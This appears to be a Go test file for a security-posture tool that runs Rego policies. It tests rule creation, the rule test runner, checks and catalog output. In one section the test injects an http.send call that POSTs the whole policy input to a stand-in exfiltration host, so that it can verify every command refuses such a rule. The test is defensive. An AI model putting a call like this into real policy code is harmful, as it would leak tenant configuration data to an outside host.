package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestOrgRuleWorkflow follows the README as a new user: init, test the example rule, add a rule
// of one's own, see it in check and in the catalog; a rule calling http.send is refused.
func TestOrgRuleWorkflow(t *testing.T) {
	dir := t.TempDir()
	if _, stderr, code := runIn(t, nil, "init", "--dir", dir); code != 0 {
		t.Fatalf("init: exit %d: %s", code, stderr)
	}
	policies := filepath.Join(dir, "policies")
	cfg := filepath.Join(dir, "posture.yaml")
	rule := filepath.Join(policies, "org", "mfa_policy_named", "mfa_policy_named.rego")
	if err := os.MkdirAll(filepath.Dir(rule), 0o755); err != nil {
		t.Fatal(err)
	}
	write := func(path, content string) {
		t.Helper()
		if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	write(rule, `# METADATA
# title: Conditional Access policies follow the naming convention
# description: Policies named CA<number> are easy to find in sign-in logs and change records.
# custom:
#   id: org.ca_naming
#   severity: low
#   level: should
#   requires: [entra.conditionalAccessPolicies]
#   remediation: Rename the policy to start with CA and a number.
package posture.rules.org.ca_naming

deny contains {"msg": sprintf("%s does not start with CA and a number", [p.displayName]), "entity": {"type": "policy", "id": p.id, "name": p.displayName}} if {
	some p in input.entra.conditionalAccessPolicies
	not regex.match("^CA[0-9]+ ", p.displayName)
}
`)
	write(strings.TrimSuffix(rule, ".rego")+"_test.rego", `package posture.rules.org.ca_naming_test

import data.posture.rules.org.ca_naming

test_named_policy_passes if {
	count(ca_naming.deny) == 0 with input as {"entra": {"conditionalAccessPolicies": [{"id": "1", "displayName": "CA001 Require MFA"}]}}
}

test_unnamed_policy_fails if {
	count(ca_naming.deny) == 1 with input as {"entra": {"conditionalAccessPolicies": [{"id": "1", "displayName": "Require MFA"}]}}
}
`)
	stdout, stderr, code := runIn(t, nil, "test", policies)
	if code != 0 || !strings.Contains(stdout, "5 tests: 5 pass, 0 fail") || !strings.Contains(stdout, "PASS  posture.rules.org.ca_naming_test.test_unnamed_policy_fails") {
		t.Fatalf("test: exit %d\n%s%s", code, stdout, stderr)
	}
	stdout, stderr, code = runIn(t, nil, "check", "--snapshot", testdataPath("snapshots", "hardened.json"), "--config", cfg, "--baseline", "org")
	if code != 0 || !strings.Contains(stdout, "org.ca_naming") || !strings.Contains(stdout, "org.no_guest_admins") {
		t.Errorf("check: exit %d\n%s%s", code, stdout, stderr)
	}
	stdout, _, _ = runIn(t, nil, "rules", "--policy", policies, "--format", "markdown", "--baseline", "org")
	if !strings.Contains(stdout, "## org.ca_naming") {
		t.Errorf("the catalog lacks the new rule:\n%s", stdout)
	}

	// A failing test fails the run.
	write(strings.TrimSuffix(rule, ".rego")+"_test.rego", `package posture.rules.org.ca_naming_test

import data.posture.rules.org.ca_naming

test_wrong_expectation if {
	count(ca_naming.deny) == 1 with input as {"entra": {"conditionalAccessPolicies": []}}
}
`)
	if stdout, _, code := runIn(t, nil, "test", policies); code != 1 || !strings.Contains(stdout, "FAIL  posture.rules.org.ca_naming_test.test_wrong_expectation") {
		t.Errorf("a failing test: exit %d, want 1\n%s", code, stdout)
	}

	// A rule that calls http.send is refused by every command, naming the built-in and file.
	leak := strings.Replace(mustRead(t, rule), "not regex.match", `http.send({"method": "POST", "url": "https://exfil.invalid", "body": input}).status_code == 200
	not regex.match`, 1)
	write(rule, leak)
	for _, args := range [][]string{
		{"test", policies},
		{"check", "--snapshot", testdataPath("snapshots", "hardened.json"), "--config", cfg},
		{"rules", "--policy", policies},
	} {
		_, stderr, code := runIn(t, nil, args...)
		if code != 2 || !strings.Contains(stderr, "mfa_policy_named.rego:14:") || !strings.Contains(stderr, "http.send is not allowed in posture policies") {
			t.Errorf("%s: exit %d, stderr %q; want 2 naming http.send and the file", args[0], code, stderr)
		}
	}
}

func mustRead(t *testing.T, path string) string {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}

func TestExampleOrgPolicies(t *testing.T) {
	examples := filepath.Join("..", "..", "examples", "org-policies")
	stdout, stderr, code := runIn(t, nil, "test", examples, "--coverage")
	if code != 0 || !strings.Contains(stdout, "0 fail, 0 error") {
		t.Fatalf("test: exit %d\n%s%s", code, stdout, stderr)
	}
	stdout, stderr, code = runIn(t, nil, "check", "--snapshot", filepath.Join("..", "..", "internal", "demo", "contoso.json"),
		"--config", filepath.Join(examples, "posture.yaml"), "--baseline", "org", "--format", "json")
	if code != 0 {
		t.Fatalf("check: exit %d: %s", code, stderr)
	}
	st := findingStatuses(t, stdout)
	if st["org.countries_blocked"] != "pass" || st["org.service_accounts_mfa_only"] != "pass" {
		t.Errorf("statuses on the demo tenant = %v, want both pass", st)
	}
	// Without the config's parameters the rules cannot verify: error, exit 2.
	_, _, code = runIn(t, nil, "check", "--snapshot", filepath.Join("..", "..", "internal", "demo", "contoso.json"),
		"--policy", examples, "--baseline", "org")
	if code != 2 {
		t.Errorf("check without parameters: exit %d, want 2 (the rules report error)", code)
	}
}
